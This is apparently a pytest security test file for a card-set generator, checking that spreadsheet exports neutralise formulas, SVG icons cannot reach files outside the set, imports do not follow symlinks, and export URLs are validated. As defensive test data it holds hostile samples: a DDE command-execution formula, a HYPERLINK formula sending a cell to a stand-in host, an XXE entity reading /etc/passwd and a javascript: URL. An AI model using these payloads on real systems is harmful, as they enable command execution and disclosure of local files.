"""Security, tested from the files written: the XLSX's XML, the CSV's bytes, the PDF's images,
the TTS JSON; every command bounded in time and memory (tests/hostile.py)."""

from __future__ import annotations

import json
import os
import re
import shutil
import zipfile
from pathlib import Path

import pytest
from hostile import cardgen, clean_failure, extending_set, inline_images

from cardgen.checks import load_set
from cardgen.sheets.formulas import neutralised, restored
from cardgen.sheets.importer import copy_set_folder

EVIL_NAMES = ['=HYPERLINK("http://x.test/?"&A1;"Click")', "=cmd|' /C calc'!A0", "+1+2", "-3", "@SUM(A1:A9)",
              "'=already quoted", "\tTabbed"]
EVIL_CARDS = "".join(
    f"  - {{name: {json.dumps(n)}, type: basic, count: 1, damage: 1, source: designed, flavour: {json.dumps(f)}}}\n"
    for n, f in zip(EVIL_NAMES[:5], ["=1+1", "@SUM(A1:A9)", "=2", "-x", "+y"], strict=True))


# --- 1. formula injection ------------------------------------------------------------------------------------


def test_neutralising_round_trips_every_leading_character() -> None:
    for text in [*EVIL_NAMES, "'", "''", "'plain", "plain", "", "\r=x"]:
        assert restored(neutralised(text)) == text
        assert not neutralised(text).startswith(("=", "+", "-", "@", "\t", "\r"))


def test_sheet_export_writes_formulas_as_text_and_imports_them_back(tmp_path: Path) -> None:
    folder = extending_set(tmp_path / "evil", "evil", EVIL_CARDS)
    for fmt in ("xlsx", "csv"):
        run = cardgen("export", "sheet", "--set", str(folder), "--out", f"evil.{fmt}", cwd=tmp_path)
        assert run.code == 0, run.err
    with zipfile.ZipFile(tmp_path / "evil.xlsx") as zf:
        sheet_xml = zf.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula element anywhere
    cells = re.findall(r'<c r="([A-Z]+\d+)"[^>]*?(?: t="(\w+)")?[^>]*>', sheet_xml)
    typed = dict(cells)
    name_cells = [ref for ref, _t in cells if re.fullmatch(r"A\d+", ref) and ref != "A1"]
    assert name_cells and all(typed[ref] in ("inlineStr", "s") for ref in name_cells)  # string cells
    csv_bytes = (tmp_path / "evil.csv").read_bytes()
    for line in csv_bytes.split(b"\r\n")[1:-1]:
        first = line.split(b",")[0].lstrip(b'"')
        assert not first.startswith((b"=", b"+", b"-", b"@", b"\t")), line  # nothing a spreadsheet evaluates
    assert b"'=cmd|' /C calc'!A0" in csv_bytes and b"'@SUM(A1:A9)" in csv_bytes
    for fmt in ("xlsx", "csv"):  # back into a copy of the set (its cards move from set.yaml to cards.yaml)
        shutil.copytree(folder, tmp_path / f"back-{fmt}")
        run = cardgen("import", "sheet", f"evil.{fmt}", "--into", f"back-{fmt}", cwd=tmp_path)
        assert run.code == 0, run.err
        names = [c.name for c in load_set(tmp_path / f"back-{fmt}").cards]
        assert names[-5:] == EVIL_NAMES[:5]  # exactly the names that were exported
        flavours = [c.flavour for c in load_set(tmp_path / f"back-{fmt}").cards][-5:]
        assert flavours == ["=1+1", "@SUM(A1:A9)", "=2", "-x", "+y"]


# --- 2. SVG icons that reach outside the set -------------------------------------------------------------------


def _icon_set(tmp_path: Path, href: str) -> Path:
    from PIL import Image

    Image.new("RGB", (4, 4), "red").save(tmp_path / "outside.png")  # 4 x 4: outside the set folder
    folder = extending_set(tmp_path / "sets" / "ic", "ic", extra="icons: {dodge: icons/dodge.svg}\n")
    (folder / "icons").mkdir()
    Image.new("RGB", (7, 5), "blue").save(folder / "icons" / "inside.png")  # 7 x 5: inside it
    (folder / "icons" / "dodge.svg").write_text(
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" '
        f'height="10"><image xlink:href="{href}" width="10" height="10"/></svg>\n')
    return folder


@pytest.mark.parametrize("href", ["../../../outside.png", "/etc/passwd", "file:///etc/passwd",
                                  "http://x.test/a.png", "inside.png/../../../../outside.png"])
def test_an_icon_referring_outside_the_set_is_refused_at_its_line(tmp_path: Path, href: str) -> None:
    folder = _icon_set(tmp_path, href)
    run = cardgen("build", "--set", str(folder), "--proof", "--out", "out", cwd=tmp_path)
    assert clean_failure(run), run.err
    assert "set.yaml:4:" in run.err and "icons: 'dodge'" in run.err
    assert "outside the set folder" in run.err or "by URL" in run.err
    assert not (tmp_path / "out").exists()  # nothing written, so no PDF holds the outside image


def test_an_icon_may_embed_an_image_inside_the_set_and_only_that_reaches_the_pdf(tmp_path: Path) -> None:
    folder = _icon_set(tmp_path, "inside.png")
    run = cardgen("build", "--set", str(folder), "--proof", "--out", "out", cwd=tmp_path)
    assert run.code == 0, run.err
    images = inline_images(tmp_path / "out" / "ic" / "ic-cards.pdf")
    assert (7, 5) in images and (4, 4) not in images


def test_an_icon_with_entities_is_refused(tmp_path: Path) -> None:
    folder = _icon_set(tmp_path, "inside.png")
    (folder / "icons" / "dodge.svg").write_text(
        '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><title>&x;</title></svg>')
    run = cardgen("validate", "--no-sim", "--set", str(folder), cwd=tmp_path)
    assert clean_failure(run) and "declares XML entities" in run.err, run.err


# --- 3. import --into never follows links out of the set ---------------------------------------------------------


def _linked_set(tmp_path: Path) -> Path:
    folder = extending_set(tmp_path / "into", "into")
    big = tmp_path / "elsewhere"
    big.mkdir()
    (big / "secret.txt").write_text("not part of the set")
    (folder / "zero.png").symlink_to("/dev/zero")
    (folder / "big").symlink_to(big)
    (folder / "art").mkdir()
    (folder / "art" / "own.txt").write_text("the set's own file")
    (folder / "art" / "abs-link.txt").symlink_to(folder.resolve() / "art" / "own.txt")
    os.mkfifo(folder / "pipe.yaml.fifo")
    return folder


def test_the_scratch_copy_holds_files_and_links_never_what_they_point_to(tmp_path: Path) -> None:
    folder = _linked_set(tmp_path)
    copy = tmp_path / "copy"
    copy_set_folder(folder, copy)
    assert (copy / "zero.png").is_symlink() and os.readlink(copy / "zero.png") == "/dev/zero"
    assert (copy / "big").is_symlink() and not (copy / "big").resolve().is_relative_to(copy.resolve())
    assert not (copy / "pipe.yaml.fifo").exists()  # FIFOs are left out
    assert (copy / "art" / "own.txt").read_text() == "the set's own file"
    inner = copy / "art" / "abs-link.txt"  # an absolute link into the set now points into the copy
    assert inner.is_symlink() and inner.resolve() == (copy / "art" / "own.txt").resolve()


def test_import_into_a_set_with_links_to_dev_zero_and_big_folders_is_quick(tmp_path: Path) -> None:
    folder = _linked_set(tmp_path)
    (tmp_path / "cards.csv").write_text("name,type,count,source,damage\r\nNew Card,basic,2,designed,3\r\n")
    run = cardgen("import", "sheet", "cards.csv", "--into", str(folder), cwd=tmp_path, timeout=60)
    assert run.code == 0, run.err
    assert run.cpu < 30
    assert load_set(folder).card("New Card").count == 2
    assert (tmp_path / "elsewhere" / "secret.txt").read_text() == "not part of the set"


# --- 4. TTS --url-base ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize("url", ["javascript:alert(1)//", "https://x.test/\n", "https://x.test/a\x07/", "ftp://x/",
                                 "data:text/html,x", "https://", "x.test/deck/"])
def test_tts_refuses_url_bases_that_are_not_http_or_file(tmp_path: Path, url: str) -> None:
    run = cardgen("export", "tts", "--set", "lunch", "--url-base", url, "--out", "out", cwd=tmp_path)
    assert clean_failure(run) and "--url-base" in run.err, run.err
    assert not (tmp_path / "out").exists()


def test_tts_writes_the_url_base_and_warns_that_file_urls_stay_local(tmp_path: Path) -> None:
    run = cardgen("export", "tts", "--set", "lunch", "--url-base", "https://x.test/deck/", "--out", "web",
                  cwd=tmp_path)
    assert run.code == 0 and "only work on this machine" not in run.err, run.err
    deck = json.loads((tmp_path / "web" / "lunch" / "tts" / "lunch-tts.json").read_text())["ObjectStates"][0]
    urls = [e[k] for e in deck["CustomDeck"].values() for k in ("FaceURL", "BackURL")]
    assert urls and all(u.startswith("https://x.test/deck/lunch-tts-") for u in urls)
    run = cardgen("export", "tts", "--set", "lunch", "--out", "local", cwd=tmp_path)
    assert run.code == 0 and "warning: file:// image URLs only work on this machine" in run.err, run.err
